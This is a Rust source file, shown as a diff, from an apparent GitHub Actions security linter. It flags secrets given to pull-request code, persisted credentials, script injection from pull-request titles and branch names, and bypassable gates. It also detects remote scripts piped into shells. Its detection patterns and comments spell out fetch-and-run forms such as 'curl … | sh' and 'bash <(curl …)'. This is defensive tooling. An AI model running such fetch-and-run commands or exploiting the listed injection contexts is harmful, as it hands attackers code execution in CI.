@@ -1,0 +1,1030 @@
+//! The rules about privileged jobs and the trusted steps they run: a policy
+//! grant never makes pull-request code trusted, the trusted key step (and any
+//! trusted `cargo xtask`) sees no pull-request bytes, credentials never
+//! persist next to pull-request code, attacker-controlled text never expands
+//! into a privileged `run:`, remote scripts never run where secrets or the
+//! publisher's cache token are, gates hold, and artifact-binding run names
+//! contain nothing an attacker picks.
+//!
+//! Owns these checks and the recognisers only they use. It must not touch
+//! role inference (`roles.rs`), the cache-aware action and command tables
+//! (`rules.rs`) or the workflow model beyond reading it.
+
+use std::collections::BTreeSet;
+
+use super::expr;
+use super::roles::{JobInfo, JobRef, PRIVILEGED_EVENTS};
+use super::rules::{Checker, checkouts_before, is_within, join_dir, key_signature, normalize_dir};
+use super::workflow::{Job, Pos, Scalar, Step};
+
+/// Variables that decide which toolchain, wrapper, configuration or shell
+/// start-up file a `cargo xtask` step runs. One pointing into a
+/// pull-request checkout hands that step to the pull request.
+const TOOL_ENV: &[&str] = &[
+    "PATH",
+    "CARGO_HOME",
+    "RUSTUP_HOME",
+    "RUSTUP_TOOLCHAIN",
+    "RUSTC",
+    "RUSTC_WRAPPER",
+    "RUSTC_WORKSPACE_WRAPPER",
+    "CARGO",
+    "CARGO_BUILD_RUSTC",
+    "CARGO_BUILD_RUSTC_WRAPPER",
+    "CARGO_TARGET_DIR",
+    "CARGO_BUILD_TARGET_DIR",
+    "LD_PRELOAD",
+    "LD_LIBRARY_PATH",
+    "BASH_ENV",
+];
+
+/// Programs that run what is piped into them (after `sudo`, `env`, …).
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "perl", "ruby",
+    "pwsh", "source", ".", "eval",
+];
+
+impl Checker<'_> {
+    /// Runs every rule of this module.
+    pub(super) fn run_privileged(&mut self) {
+        let model = self.model;
+        for info in &model.jobs {
+            let job = model.job(info.at);
+            if info.is_untrusted() {
+                self.grant_to_untrusted_code(info, job);
+                self.gate_bypass(info, job);
+            }
+            if info.is_untrusted() || info.pod.is_some() {
+                self.persist_credentials(info, job);
+            }
+            self.trusted_step_environment(info, job);
+            if let Some((why, writes_only)) = self.privilege(info, job) {
+                self.privileged_injection(info, job, &why);
+                // A write token alone is rule 2's business; a fetched script
+                // matters where secrets or the publisher's cache token are.
+                if !writes_only {
+                    self.remote_script(info, job, &why);
+                }
+            }
+            if info.publisher {
+                self.publisher_reuse(info, job);
+            }
+        }
+        self.run_name_binding();
+    }
+
+    /// Why the job's code matters beyond its own logs: it is a publisher, it
+    /// holds a secret, or its token may write (then the flag is true: the
+    /// write token is its only privilege). `None` for the rest.
+    fn privilege(&self, info: &JobInfo, job: &Job) -> Option<(String, bool)> {
+        if info.publisher {
+            return Some(("publisher job".to_owned(), false));
+        }
+        let wf = self.model.workflow(info.at);
+        let scalars = job
+            .scalars
+            .iter()
+            .chain(wf.env.iter().map(|(_, value)| value));
+        for scalar in scalars {
+            for reference in expr::secret_refs(&scalar.value) {
+                match reference.name {
+                    Some(name) if name == "GITHUB_TOKEN" => {}
+                    Some(name) => return Some((format!("job holding the secret `{name}`"), false)),
+                    None => return Some(("job reading every secret".to_owned(), false)),
+                }
+            }
+        }
+        let only_pull_request = info.triggers.iter().all(|t| t == "pull_request");
+        for effective in &info.permissions {
+            let writes = match &effective.permissions {
+                // The repository default may be write, except where GitHub
+                // makes every pull_request token read-only for forks anyway.
+                None => !only_pull_request,
+                Some(super::workflow::Permissions::Shorthand(s)) => s.value.trim() == "write-all",
+                Some(super::workflow::Permissions::Map { scopes, .. }) => scopes
+                    .iter()
+                    .any(|(_, level)| level.value.trim() == "write"),
+            };
+            if writes {
+                return Some(("job whose token can write".to_owned(), true));
+            }
+        }
+        None
+    }
+
+    /// `untrusted-secrets`: a policy grant of secrets to a job that runs
+    /// pull-request-controlled bytes is refused, whatever it grants.
+    fn grant_to_untrusted_code(&mut self, info: &JobInfo, job: &Job) {
+        let Some(grant) = self.grant(info.at) else {
+            return;
+        };
+        if grant.secrets.is_empty() {
+            return;
+        }
+        let Some(why) = pr_bytes(info) else { return };
+        let wf = self.model.workflow(info.at);
+        let pos = job
+            .scalars
+            .iter()
+            .find_map(|s| {
+                expr::secret_refs(&s.value).into_iter().find_map(|r| {
+                    r.name
+                        .filter(|n| grant.secrets.contains(n))
+                        .map(|n| wf.locate(s.pos, &format!("secrets.{n}")))
+                })
+            })
+            .unwrap_or(job.id.pos);
+        let message = format!(
+            "the policy grants {} to {}, which runs pull-request-controlled bytes ({}, line {}); a grant does not make that code trusted: give the secret to a job that runs only trusted code",
+            grant
+                .secrets
+                .iter()
+                .map(|s| format!("`{s}`"))
+                .collect::<Vec<_>>()
+                .join(", "),
+            self.label(info.at),
+            why.text,
+            why.pos.line
+        );
+        self.push("untrusted-secrets", info.at, info.at.workflow, pos, message);
+    }
+
+    /// `untrusted-persist-credentials`: every checkout in an untrusted-code
+    /// or pod job says `persist-credentials: false`.
+    fn persist_credentials(&mut self, info: &JobInfo, job: &Job) {
+        let who = self.label(info.at);
+        let mut found = Vec::new();
+        for step in job
+            .steps
+            .iter()
+            .filter(|s| s.uses_action("actions/checkout"))
+        {
+            let setting = step.input("persist-credentials");
+            if setting.is_some_and(|v| v.value.trim() == "false") {
+                continue;
+            }
+            let pos = setting.map_or(step.uses.as_ref().map_or(step.pos, |u| u.pos), |v| v.pos);
+            let what = setting.map_or("without `persist-credentials: false`".to_owned(), |v| {
+                format!("with `persist-credentials: {}`", v.value)
+            });
+            found.push((
+                pos,
+                format!(
+                    "{who} checks out {what}, so the token stays in .git/config where the code it runs can read it"
+                ),
+            ));
+        }
+        for (pos, message) in found {
+            self.push(
+                "untrusted-persist-credentials",
+                info.at,
+                info.at.workflow,
+                pos,
+                message,
+            );
+        }
+    }
+
+    /// `trusted-step-environment`: the key step and every other trusted
+    /// `cargo xtask` step of a privileged or publisher job run with no
+    /// pull-request bytes in their tools, configuration or environment.
+    fn trusted_step_environment(&mut self, info: &JobInfo, job: &Job) {
+        let privileged = info
+            .triggers
+            .iter()
+            .any(|t| PRIVILEGED_EVENTS.contains(&t.as_str()));
+        if !(info.publisher || privileged) {
+            return;
+        }
+        let wf = self.model.workflow(info.at);
+        let step_id = &self.policy.key.step_id;
+        let trusted: Vec<&Step> = job
+            .steps
+            .iter()
+            .filter(|s| {
+                s.id.as_ref().is_some_and(|id| &id.value == step_id)
+                    || s.run.as_ref().is_some_and(|r| runs_xtask(&r.value))
+            })
+            .collect();
+        let Some(last) = trusted.last().map(|s| s.index) else {
+            return;
+        };
+        let untrusted = untrusted_checkouts(job, last, &self.policy.default_branch);
+        if untrusted.is_empty() {
+            return;
+        }
+        let mut found: Vec<(Pos, String)> = Vec::new();
+        // 1. Variables that point a trusted step's tools into the PR. A
+        //    relative path is read from the directory of a trusted step.
+        let dirs: Vec<String> = trusted
+            .iter()
+            .map(|s| key_signature(wf, job, s).working_directory)
+            .collect();
+        let mut envs: Vec<&(Scalar, Scalar)> = wf.env.iter().chain(job.env.iter()).collect();
+        for step in &trusted {
+            envs.extend(step.env.iter());
+        }
+        for (name, value) in envs {
+            if !TOOL_ENV.contains(&name.value.as_str()) {
+                continue;
+            }
+            let pointed = dirs
+                .iter()
+                .find_map(|dir| points_into(&value.value, &untrusted, dir));
+            if let Some(path) = pointed {
+                found.push((
+                    name.pos,
+                    format!(
+                        "`{}: {}` points into the pull-request checkout `{path}`, so the trusted `cargo xtask` steps run its tools or configuration",
+                        name.value, value.value
+                    ),
+                ));
+            }
+        }
+        // 2. Writes to GITHUB_ENV / GITHUB_PATH, before the last trusted
+        //    step, that read the PR checkout.
+        for step in &job.steps[..last] {
+            let Some(run) = &step.run else { continue };
+            let Some(line) = run
+                .value
+                .lines()
+                .find(|l| l.contains("GITHUB_ENV") || l.contains("GITHUB_PATH"))
+            else {
+                continue;
+            };
+            let in_pr = step.working_directory.as_ref().and_then(|d| {
+                let dir = normalize_dir(&d.value);
+                untrusted.iter().find(|p| is_within(&dir, p)).cloned()
+            });
+            let reads = in_pr.or_else(|| mentions_checkout(&run.value, &untrusted));
+            if let Some(path) = reads {
+                found.push((
+                    wf.locate(run.pos, line),
+                    format!(
+                        "`{}` writes the environment of later steps from the pull-request checkout `{path}`; the trusted `cargo xtask` steps would run with values the pull request chose",
+                        line.trim()
+                    ),
+                ));
+            }
+        }
+        // 3. The directory a trusted step runs in: cargo and rustup read
+        //    `.cargo/config.toml` and `rust-toolchain.toml` from it and from
+        //    every parent, so an enclosing PR checkout configures it.
+        for step in &trusted {
+            let is_key = step.id.as_ref().is_some_and(|id| &id.value == step_id);
+            let dir = key_signature(wf, job, step).xtask_dir();
+            let checkouts = checkouts_before(job, step.index);
+            let owner = checkouts
+                .iter()
+                .rev()
+                .find(|(path, _)| is_within(&dir, path) || is_within(path, &dir))
+                .map(|(path, _)| path.clone());
+            let pos = step.run.as_ref().map_or(step.pos, |r| r.pos);
+            let owner_untrusted = owner.as_ref().is_some_and(|o| untrusted.contains(o));
+            // key-xtask-checkout already judges the checkout a key step runs from.
+            if owner_untrusted && !is_key {
+                found.push((
+                    pos,
+                    format!(
+                        "this `cargo xtask` step runs the xtask of the pull-request checkout `{}`",
+                        owner.clone().unwrap_or_default()
+                    ),
+                ));
+                continue;
+            }
+            if owner_untrusted {
+                continue;
+            }
+            let enclosing = checkouts
+                .iter()
+                .map(|(path, _)| path)
+                .filter(|path| untrusted.contains(path))
+                .find(|path| **path != dir && is_within(&dir, path));
+            if let Some(path) = enclosing {
+                found.push((
+                    pos,
+                    format!(
+                        "the pull-request checkout `{path}` encloses `{dir}`, where this trusted `cargo xtask` step runs: cargo reads `.cargo/config.toml` and rustup `rust-toolchain.toml` from every parent directory; check the pull request out beside the trusted tree (e.g. `path: pr`)"
+                    ),
+                ));
+            }
+        }
+        for (pos, message) in found {
+            self.push(
+                "trusted-step-environment",
+                info.at,
+                info.at.workflow,
+                pos,
+                message,
+            );
+        }
+    }
+
+    /// `privileged-injection`: an attacker-controlled expression expanded
+    /// into the script of a privileged job.
+    fn privileged_injection(&mut self, info: &JobInfo, job: &Job, why: &str) {
+        let wf = self.model.workflow(info.at);
+        let mut found = Vec::new();
+        for step in &job.steps {
+            let scripts = step.run.iter().chain(
+                step.input("script")
+                    .filter(|_| step.uses_action("actions/github-script")),
+            );
+            for script in scripts {
+                for (_, body) in expr::expressions(&script.value) {
+                    let context = attacker_controlled(body)
+                        .map(str::to_owned)
+                        .or_else(|| self.untrusted_output(info.at, body))
+                        .or_else(|| self.attacker_controlled_input(info.at, body));
+                    if let Some(context) = context {
+                        found.push((
+                            wf.locate(script.pos, body),
+                            format!(
+                                "`${{{{ {body} }}}}` expands `{context}`, which the pull request's author picks, into a script of {} `{}`, a {why}; pass it through `env:` and quote it",
+                                self.model.info(info.at).role(),
+                                job.id.value
+                            ),
+                        ));
+                    }
+                }
+            }
+        }
+        for (pos, message) in found {
+            self.push(
+                "privileged-injection",
+                info.at,
+                info.at.workflow,
+                pos,
+                message,
+            );
+        }
+    }
+
+    /// `needs.JOB.outputs.…` of an untrusted-code job of the same workflow:
+    /// the pull request's code runs in that job and can set what its steps
+    /// output (the runner's output files lie in a directory it can list), so
+    /// every output of it is attacker-controlled text.
+    fn untrusted_output(&self, at: JobRef, body: &str) -> Option<String> {
+        let wf = self.model.workflow(at);
+        body.match_indices("needs.").find_map(|(i, _)| {
+            let rest = &body[i + "needs.".len()..];
+            let name: String = rest
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
+                .collect();
+            if !rest[name.len()..].starts_with(".outputs") {
+                return None;
+            }
+            let j = wf.jobs.iter().position(|j| j.id.value == name)?;
+            let source = self.model.info(JobRef {
+                workflow: at.workflow,
+                job: j,
+            });
+            source.is_untrusted().then(|| {
+                format!(
+                    "needs.{name}.outputs, which the pull-request code in {} `{name}` can set",
+                    source.role()
+                )
+            })
+        })
+    }
+
+    /// For `inputs.NAME` in a reusable workflow: the attacker-controlled
+    /// context a caller passes as NAME (`with: { branch: ${{ …head_branch }} }`).
+    fn attacker_controlled_input(&self, at: JobRef, body: &str) -> Option<String> {
+        let name: String = body
+            .split("inputs.")
+            .nth(1)?
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
+            .collect();
+        self.model
+            .jobs
+            .iter()
+            .filter(|caller| caller.callee == Some(at.workflow))
+            .find_map(|caller| {
+                let job = self.model.job(caller.at);
+                let value = super::workflow::lookup(&job.with, &name)?;
+                expr::expressions(&value.value)
+                    .into_iter()
+                    .find_map(|(_, passed)| {
+                        attacker_controlled(passed)
+                            .map(str::to_owned)
+                            .or_else(|| self.untrusted_output(caller.at, passed))
+                    })
+                    .map(|context| {
+                        format!(
+                            "{context}, passed as `inputs.{name}` by `{}` of {}",
+                            job.id.value,
+                            self.model.workflow(caller.at).name
+                        )
+                    })
+            })
+    }
+
+    /// `remote-script`: a script downloaded and run in a privileged job.
+    fn remote_script(&mut self, info: &JobInfo, job: &Job, why: &str) {
+        let wf = self.model.workflow(info.at);
+        let mut found = Vec::new();
+        for step in &job.steps {
+            let Some(run) = &step.run else { continue };
+            if let Some(line) = downloads_and_runs(&run.value) {
+                found.push((
+                    wf.locate(run.pos, line),
+                    format!(
+                        "`{}` runs a script fetched at run time in `{}`, a {why}; whoever controls that URL runs code with its secrets and token: vendor the script or verify a pinned checksum before running it",
+                        line.trim(),
+                        job.id.value
+                    ),
+                ));
+            }
+        }
+        for (pos, message) in found {
+            self.push("remote-script", info.at, info.at.workflow, pos, message);
+        }
+    }
+
+    /// `publisher-untrusted-ref`: the publisher builds; it never reuses an
+    /// artifact another run uploaded.
+    fn publisher_reuse(&mut self, info: &JobInfo, job: &Job) {
+        let wf = self.model.workflow(info.at);
+        let mut found = Vec::new();
+        for step in &job.steps {
+            let Some(run) = &step.run else { continue };
+            let Some(line) = run.value.lines().find(|l| {
+                let words: Vec<&str> = l.split_whitespace().collect();
+                words
+                    .windows(3)
+                    .any(|w| w == ["cargo", "xtask", "gpu-archive"])
+            }) else {
+                continue;
+            };
+            if run.value.split_whitespace().any(|w| w == "--reuse") {
+                found.push((
+                    wf.locate(run.pos, line),
+                    format!(
+                        "publisher job `{}` runs `gpu-archive --reuse`, which may publish an archive another run uploaded; the publisher builds what it publishes",
+                        job.id.value
+                    ),
+                ));
+            }
+        }
+        for (pos, message) in found {
+            self.push(
+                "publisher-untrusted-ref",
+                info.at,
+                info.at.workflow,
+                pos,
+                message,
+            );
+        }
+    }
+
+    /// `gate-bypass`: the jobs an untrusted-code job needs (its gates) must
+    /// be able to stop it.
+    fn gate_bypass(&mut self, info: &JobInfo, job: &Job) {
+        // Gates matter where pull-request bytes run in a privileged run; a
+        // pod job of a push workflow has nothing to be gated from.
+        let Some(bytes) = pr_bytes(info) else { return };
+        let gates = self.gates(info.at);
+        let mut found = Vec::new();
+        for gate in &gates {
+            let gate_job = self.model.job(*gate);
+            let gate_wf = self.model.workflow(*gate);
+            let name = &gate_job.id.value;
+            if let Some(c) = gate_job
+                .continue_on_error
+                .as_ref()
+                .filter(|c| c.value.trim() != "false")
+            {
+                found.push((
+                    gate.workflow,
+                    c.pos,
+                    format!(
+                        "`continue-on-error: {}` on `{name}` of {}, which {} `{}` needs: a refusal no longer stops the pull-request code",
+                        c.value,
+                        gate_wf.name,
+                        self.model.info(info.at).role(),
+                        job.id.value
+                    ),
+                ));
+            }
+            for step in &gate_job.steps {
+                if let Some(c) = step
+                    .continue_on_error
+                    .as_ref()
+                    .filter(|c| c.value.trim() != "false")
+                {
+                    found.push((
+                        gate.workflow,
+                        c.pos,
+                        format!(
+                            "a step of `{name}` of {} has `continue-on-error: {}`; `{name}` gates {} `{}`, so a refusal in that step no longer stops it",
+                            gate_wf.name,
+                            c.value,
+                            self.model.info(info.at).role(),
+                            job.id.value
+                        ),
+                    ));
+                }
+            }
+        }
+        // A status function other than success() runs the job whatever its
+        // needs concluded, unless the condition asks for their results.
+        // A pod cleanup job's `always()` is its purpose; only a job that
+        // brings in pull-request bytes itself is held to its gates here.
+        let own_bytes = info.pod.as_ref().is_none_or(|pod| pod.pos != bytes.pos);
+        if let Some(cond) = job.if_cond.as_ref().filter(|_| own_bytes) {
+            let text = cond.value.replace(' ', "");
+            let bypasses = ["always()", "failure()", "cancelled()"]
+                .iter()
+                .any(|f| text.contains(f));
+            if bypasses {
+                for needed in &job.needs {
+                    if !text.contains(&format!("needs.{}.result", needed.value)) {
+                        found.push((
+                            info.at.workflow,
+                            cond.pos,
+                            format!(
+                                "`if: {}` runs `{}` even when `{}` fails or refuses; require `needs.{}.result == 'success'`",
+                                cond.value.trim(),
+                                job.id.value,
+                                needed.value,
+                                needed.value
+                            ),
+                        ));
+                    }
+                }
+            }
+        }
+        for (file, pos, message) in found {
+            self.push("gate-bypass", info.at, file, pos, message);
+        }
+    }
+
+    /// The jobs `at` needs, transitively, with those its callers need when
+    /// it is in a reusable workflow.
+    fn gates(&self, at: JobRef) -> BTreeSet<JobRef> {
+        let mut out = BTreeSet::new();
+        let mut pending = vec![at];
+        let mut seen = BTreeSet::from([at]);
+        while let Some(current) = pending.pop() {
+            let wf = self.model.workflow(current);
+            let job = self.model.job(current);
+            let mut next: Vec<JobRef> = job
+                .needs
+                .iter()
+                .filter_map(|n| wf.jobs.iter().position(|j| j.id.value == n.value))
+                .map(|j| JobRef {
+                    workflow: current.workflow,
+                    job: j,
+                })
+                .collect();
+            next.extend(
+                self.model
+                    .jobs
+                    .iter()
+                    .filter(|c| c.callee == Some(current.workflow))
+                    .map(|c| c.at),
+            );
+            for n in next {
+                if seen.insert(n) {
+                    pending.push(n);
+                    // A caller is not a gate itself; its needs are.
+                    if self.model.info(n).callee != Some(current.workflow) {
+                        out.insert(n);
+                    }
+                }
+            }
+        }
+        out
+    }
+
+    /// `artifact-binding`: the run name the artifact finder trusts contains
+    /// nothing the pull request's author picks.
+    fn run_name_binding(&mut self) {
+        let model = self.model;
+        for (w, wf) in model.workflows.iter().enumerate() {
+            let Some(name) = &wf.run_name else { continue };
+            let binds = self.policy.artifacts.trusted_workflows.contains(&wf.name)
+                || wf.jobs.iter().any(|j| {
+                    j.steps.iter().any(|s| {
+                        s.run
+                            .as_ref()
+                            .is_some_and(|r| runs_xtask(&r.value) && r.value.contains("--reuse"))
+                    })
+                });
+            if !binds || wf.jobs.is_empty() {
+                continue;
+            }
+            for (_, body) in expr::expressions(&name.value) {
+                if let Some(context) = attacker_controlled(body) {
+                    self.push(
+                        "artifact-binding",
+                        JobRef { workflow: w, job: 0 },
+                        w,
+                        name.pos,
+                        format!(
+                            "the `run-name:` of {} expands `{context}`, which the pull request's author picks; the artifact finder trusts a run whose name states the head commit, so a branch or title could state another commit: use only the head SHA",
+                            wf.name
+                        ),
+                    );
+                    if let Some(finding) = self.findings.last_mut() {
+                        finding.job = None;
+                    }
+                }
+            }
+        }
+    }
+}
+
+/// Why a job runs bytes a pull request controls: a reason other than its
+/// runner, or, for a pod job in a privileged run, the pod itself (it exists
+/// to run the pull request's tests).
+fn pr_bytes(info: &JobInfo) -> Option<&super::roles::Why> {
+    let pod_pos = info.pod.as_ref().map(|p| (p.pos, &p.text));
+    let other = info
+        .untrusted
+        .iter()
+        .find(|w| Some((w.pos, &w.text)) != pod_pos);
+    let privileged = info
+        .triggers
+        .iter()
+        .any(|t| PRIVILEGED_EVENTS.contains(&t.as_str()));
+    other.or(info.pod.as_ref().filter(|_| privileged))
+}
+
+/// True when a script runs `cargo xtask …`.
+fn runs_xtask(script: &str) -> bool {
+    script.lines().any(|l| {
+        let words: Vec<&str> = l.split_whitespace().collect();
+        words.windows(2).any(|w| w == ["cargo", "xtask"])
+    })
+}
+
+/// The paths of the checkouts before step `index` that hold code other than
+/// the trusted commit: a `ref:` that is not trusted, or another repository.
+/// A checkout without `ref:` is the commit the run is for (the default
+/// branch's, in a privileged or publisher run).
+/// The artifacts of another run (the pull request's CI run, for a
+/// `workflow_run` consumer) unpacked before it count the same way.
+fn untrusted_checkouts(job: &Job, index: usize, default: &str) -> Vec<String> {
+    let mut paths: Vec<String> = checkouts_before(job, index)
+        .into_iter()
+        .filter(|(_, step)| {
+            let bad_ref = step
+                .input("ref")
+                .is_some_and(|r| !expr::is_trusted_ref(&r.value, default));
+            let bad_repo = step
+                .input("repository")
+                .is_some_and(|r| expr::sole_expression(&r.value) != Some("github.repository"));
+            bad_ref || bad_repo
+        })
+        .map(|(path, _)| path)
+        .collect();
+    for step in &job.steps[..index] {
+        if super::roles::other_run_download(step).is_some() {
+            // download-artifact unpacks into the workspace without `path:`.
+            paths.push(normalize_dir(
+                step.input("path").map_or(".", |p| p.value.as_str()),
+            ));
+        }
+    }
+    paths
+}
+
+/// The workspace-relative form of a path in a variable or script (a
+/// relative one read from `base`), or `None` for one outside the workspace
+/// (absolute, `$HOME`, `~`, `$PATH`).
+fn workspace_path(token: &str, base: &str) -> Option<String> {
+    let token = token.trim().trim_matches(|c| c == '"' || c == '\'');
+    for prefix in [
+        "$GITHUB_WORKSPACE",
+        "${GITHUB_WORKSPACE}",
+        "$PWD",
+        "${PWD}",
+        "$(pwd)",
+    ] {
+        if let Some(rest) = token.strip_prefix(prefix) {
+            return Some(normalize_dir(rest));
+        }
+    }
+    if token.is_empty() || token.starts_with(['/', '$', '~']) || token.contains("${{") {
+        return None;
+    }
+    Some(join_dir(base, token))
+}
+
+/// `${{ github.workspace }}` in the shell's spelling, so that paths split
+/// on spaces stay whole.
+fn unexpand_workspace(text: &str) -> String {
+    text.replace("${{ github.workspace }}", "$GITHUB_WORKSPACE")
+        .replace("${{github.workspace}}", "$GITHUB_WORKSPACE")
+}
+
+/// The untrusted checkout a `PATH`-like value points into.
+fn points_into(value: &str, untrusted: &[String], base: &str) -> Option<String> {
+    unexpand_workspace(value)
+        .split([':', ' ', '\n'])
+        .filter_map(|token| workspace_path(token, base))
+        .find_map(|path| untrusted.iter().find(|u| is_within(&path, u)).cloned())
+}
+
+/// The untrusted checkout a script reads from (`pr/…`, `cd pr`, `$GITHUB_WORKSPACE/pr`).
+fn mentions_checkout(script: &str, untrusted: &[String]) -> Option<String> {
+    let script = unexpand_workspace(script);
+    let words: Vec<&str> = script
+        .split(|c: char| {
+            c.is_whitespace()
+                || matches!(
+                    c,
+                    ';' | '&' | '|' | '(' | ')' | '`' | '<' | '>' | '=' | ',' | '"' | '\''
+                )
+        })
+        .filter(|w| !w.is_empty())
+        .collect();
+    for (i, word) in words.iter().enumerate() {
+        // A path says so (`pr/x`, `$GITHUB_WORKSPACE/pr`), or is where the
+        // script changes directory to; a bare word is text.
+        let entered = i > 0 && matches!(words[i - 1], "cd" | "pushd");
+        if !(word.contains('/') || entered) {
+            continue;
+        }
+        let Some(path) = workspace_path(word, ".") else {
+            continue;
+        };
+        // A root checkout (`.`) holds every relative path.
+        if let Some(found) = untrusted.iter().find(|u| is_within(&path, u)) {
+            return Some(found.clone());
+        }
+    }
+    None
+}
+
+/// The attacker-controlled context an expression body reads, if any: pull
+/// request, issue and comment text, branch names, commit messages and
+/// authors, and `workflow_run` display titles.
+pub fn attacker_controlled(body: &str) -> Option<&str> {
+    body.split(|c: char| {
+        !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '[' | ']' | '*' | '\''))
+    })
+    .filter(|t| t.starts_with("github."))
+    .find(|token| {
+        let lower = token.to_ascii_lowercase();
+        // `pull_requests[0].head.ref` → `pull_requests.head.ref`.
+        let path: String = {
+            let mut out = String::new();
+            let mut depth = 0;
+            for c in lower.chars() {
+                match c {
+                    '[' => depth += 1,
+                    ']' => depth -= 1,
+                    _ if depth == 0 => out.push(c),
+                    _ => {}
+                }
+            }
+            out
+        };
+        let last = path.rsplit('.').next().unwrap_or("");
+        path == "github.head_ref"
+            || matches!(
+                last,
+                "head_ref"
+                    | "head_branch"
+                    | "title"
+                    | "display_title"
+                    | "body"
+                    | "message"
+                    | "page_name"
+                    | "description"
+            )
+            || path.ends_with("workflow_run.name")
+            || path.ends_with(".head.ref")
+            || path.ends_with(".head.label")
+            || path.contains(".author.")
+            || path.contains(".committer.")
+            || path.contains(".pusher.")
+    })
+}
+
+/// The first line of a script that runs what it downloads: a pipe from
+/// `curl`/`wget` into an interpreter, a process substitution, or a file
+/// fetched and then run without a checksum check in between.
+pub fn downloads_and_runs(script: &str) -> Option<&str> {
+    // Commands in order: `curl -o x && bash x` is two of them.
+    let lines: Vec<&str> = script
+        .lines()
+        .flat_map(|l| l.split("&&").flat_map(|c| c.split(';')))
+        .flat_map(|c| c.split("||"))
+        .collect();
+    let is_fetch =
+        |w: &str| matches!(w, "curl" | "wget") || w.ends_with("/curl") || w.ends_with("/wget");
+    let mut fetched: Vec<(String, usize)> = Vec::new();
+    for (i, line) in lines.iter().enumerate() {
+        let words: Vec<&str> = line.split_whitespace().collect();
+        if !words
+            .iter()
+            .any(|w| is_fetch(w.trim_start_matches(['(', '$', '<', '`', '"'])))
+        {
+            // A later line may run a file fetched earlier.
+            let runs_fetched = fetched.iter().any(|(file, at)| {
+                let verified = lines[*at..i].iter().any(|l| verifies_checksum(l));
+                !verified && runs_file(line, file)
+            });
+            if runs_fetched {
+                return Some(line);
+            }
+            continue;
+        }
+        // curl … | sh, wget -O- … | sudo bash
+        let mut pieces = line.split('|').filter(|p| !p.trim().is_empty());
+        let mut seen_fetch = false;
+        for piece in pieces.by_ref() {
+            let piece_words: Vec<&str> = piece.split_whitespace().collect();
+            if seen_fetch {
+                let program = piece_words
+                    .iter()
+                    .map(|w| w.rsplit('/').next().unwrap_or(w))
+                    .find(|w| !matches!(*w, "sudo" | "env" | "-E" | "exec") && !w.contains('='));
+                if program.is_some_and(|p| INTERPRETERS.contains(&p)) {
+                    return Some(line);
+                }
+            }
+            seen_fetch |= piece_words.iter().any(|w| is_fetch(w));
+        }
+        // bash <(curl …), sh -c "$(curl …)", source <(wget -qO- …)
+        let substituted = ["<(curl", "<(wget", "$(curl", "$(wget", "`curl", "`wget"]
+            .iter()
+            .any(|s| line.contains(s));
+        if substituted
+            && words
+                .iter()
+                .any(|w| INTERPRETERS.contains(&w.trim_start_matches("sudo")))
+        {
+            return Some(line);
+        }
+        // curl -o FILE URL / wget -O FILE URL / curl -O URL (remote name)
+        fetched.extend(downloaded_file(&words).map(|f| (f, i)));
+    }
+    None
+}
+
+/// The file a `curl`/`wget` command line writes, when it names one.
+fn downloaded_file(words: &[&str]) -> Option<String> {
+    let mut out = None;
+    let mut url = None;
+    for (i, w) in words.iter().enumerate() {
+        let next = words.get(i + 1).map(|s| s.trim_matches('"').to_owned());
+        match *w {
+            "-o" | "--output" | "--output-document" => out = next,
+            "-O" if words.iter().any(|w| w.ends_with("wget")) => out = next,
+            _ if w.starts_with("--output-document=") => {
+                out = w
+                    .split_once('=')
+                    .map(|(_, f)| f.trim_matches('"').to_owned())
+            }
+            _ if w.starts_with('-') && !w.starts_with("--") && w.ends_with('o') => out = next,
+            _ if w.trim_matches('"').starts_with("http") => url = Some(w.trim_matches('"')),
+            _ => {}
+        }
+    }
+    let short_o = |w: &&&str| w.starts_with('-') && !w.starts_with("--") && w.contains('O');
+    let remote_name = words.iter().any(|w| short_o(&w) || *w == "--remote-name")
+        && !words.iter().any(|w| w.ends_with("wget"))
+        || words.iter().any(|w| w.ends_with("wget")) && out.is_none();
+    out.or_else(|| {
+        remote_name
+            .then(|| url.and_then(|u| u.rsplit('/').next()).map(str::to_owned))
+            .flatten()
+    })
+    .filter(|f| f != "-" && !f.is_empty())
+}
+
+/// True when `line` runs `file`: as a command, or through an interpreter.
+fn runs_file(line: &str, file: &str) -> bool {
+    let bare = file.trim_start_matches("./");
+    let words: Vec<&str> = line
+        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')'))
+        .filter(|w| !w.is_empty())
+        .map(|w| w.trim_matches('"'))
+        .collect();
+    words.iter().enumerate().any(|(i, w)| {
+        let names = w.trim_start_matches("./") == bare;
+        if !names {
+            return false;
+        }
+        let before = i.checked_sub(1).map(|j| words[j]);
+        // `./x.sh` or `/tmp/x.sh` as the command, `bash x.sh`, `sudo x.sh`;
+        // `chmod +x x.sh` or `tar -xf /tmp/x.tgz` is not a run.
+        let command = i == 0 || before.is_some_and(|b| matches!(b, "sudo" | "exec" | "nohup"));
+        (w.starts_with("./") || w.starts_with('/')) && command
+            || before.is_some_and(|b| {
+                INTERPRETERS.contains(&b.rsplit('/').next().unwrap_or(b)) || b == "sudo"
+            })
+    })
+}
+
+fn verifies_checksum(line: &str) -> bool {
+    let words: Vec<&str> = line.split_whitespace().collect();
+    let sum = words
+        .iter()
+        .any(|w| w.ends_with("sum") && (w.starts_with("sha") || w.starts_with("b2")));
+    (sum && words.iter().any(|w| *w == "-c" || *w == "--check"))
+        || words.windows(2).any(|w| w == ["gpg", "--verify"])
+        || words.windows(2).any(|w| w == ["cosign", "verify-blob"])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn attacker_controlled_contexts() {
+        for bad in [
+            "github.head_ref",
+            "github.event.pull_request.title",
+            "github.event.pull_request.head.ref",
+            "github.event.workflow_run.head_branch",
+            "github.event.workflow_run.display_title",
+            "github.event.workflow_run.pull_requests[0].head.ref",
+            "github.event.head_commit.message",
+            "github.event.comment.body",
+            "format('{0}', github.event.issue.body)",
+            "github.event.head_commit.author.email",
+            "github.event.workflow_run.head_repository.description",
+            "github.event.workflow_run.name",
+        ] {
+            assert!(attacker_controlled(bad).is_some(), "{bad}");
+        }
+        for ok in [
+            "github.sha",
+            "github.event.workflow_run.head_sha",
+            "inputs.head_sha",
+            "github.ref",
